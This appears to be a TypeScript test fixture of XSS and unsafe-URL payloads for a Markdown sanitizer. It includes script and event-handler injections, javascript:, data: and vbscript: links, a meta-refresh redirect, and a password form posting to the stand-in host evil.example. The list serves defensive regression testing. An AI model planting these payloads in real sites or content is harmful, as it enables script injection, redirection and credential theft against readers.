/**
 * Hostile content for the "content is data" tests: every payload that ran script, redirected
 * readers or loaded another site when raw HTML in content was rendered verbatim (issue 11).
 * Each is Markdown as an editor (or an attacker with an editor's account) might commit it; they
 * call alert() or reach evil.example, so a browser test can tell whether any of them worked.
 */
export const EVIL_HOST = 'evil.example';

export interface Payload {
  name: string;
  markdown: string;
  /** `raw-html` or `unsafe-url`: the rule of remark-content-is-data.ts that refuses it. */
  rule: 'raw-html' | 'unsafe-url';
}

const html = (name: string, markdown: string): Payload => ({ name, markdown, rule: 'raw-html' });
const url = (name: string, markdown: string): Payload => ({ name, markdown, rule: 'unsafe-url' });

export const PAYLOADS: Payload[] = [
  html('script', '<script>alert("script")</script>'),
  html('img onerror', '正文<img src="x" onerror="alert(\'img\')">正文'),
  html('svg onload', '<svg onload="alert(\'svg\')"></svg>'),
  html('iframe srcdoc', '<iframe srcdoc="<script>alert(\'iframe\')</script>"></iframe>'),
  html('details ontoggle', '<details open ontoggle="alert(\'details\')"><summary>x</summary></details>'),
  html('a href JaVaScRiPt', '<a href="JaVaScRiPt:alert(\'a\')">点此</a>'),
  html('meta refresh', `<meta http-equiv="refresh" content="0; url=https://${EVIL_HOST}/">`),
  html('base href', `<base href="https://${EVIL_HOST}/">`),
  html('style', '<style>body { display: none }</style>'),
  html('external link', `<link rel="stylesheet" href="https://${EVIL_HOST}/x.css">`),
  html(
    'password form',
    `<form action="https://${EVIL_HOST}/"><input type="password" name="p"><button>登录</button></form>`,
  ),
  html('table cell', `| 序号 | 内容 |\n| --- | --- |\n| 1 | <img src="x" onerror="alert('cell')"> |`),
  html('table heading', `| <svg onload="alert('th')"></svg> |\n| --- |\n| 1 |`),
  html('heading', `## 标题<img src="x" onerror="alert('heading')">`),
  html('signature block', `:::signature\n<img src="x" onerror="alert('signature')">\n2020年5月24日\n:::`),
  html('comment', '<!-- 注释 -->'),
  url('markdown link javascript:', '[点此](javascript:alert("link"))'),
  url('mixed case', '[点此](JaVaScRiPt:alert("case"))'),
  url('character reference', '[点此](java&#x73;cript:alert("entity"))'),
  url('tab inside scheme', '[点此](<java&#9;script:alert("tab")>)'),
  url('leading space', '[点此](<&#32;javascript:alert("space")>)'),
  url('data:', '[点此](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
  url('vbscript:', '[点此](vbscript:msgbox("vb"))'),
  url('reference definition', '[点此][r]\n\n[r]: javascript:alert("definition")'),
  url('autolink', '<javascript:alert("autolink")>'),
  url('image javascript:', '![图](javascript:alert("image"))'),
  url('external image', `![图](https://${EVIL_HOST}/pixel.png)`),
  url('external image by reference', `![图][p]\n\n[p]: //${EVIL_HOST}/pixel.png`),
];
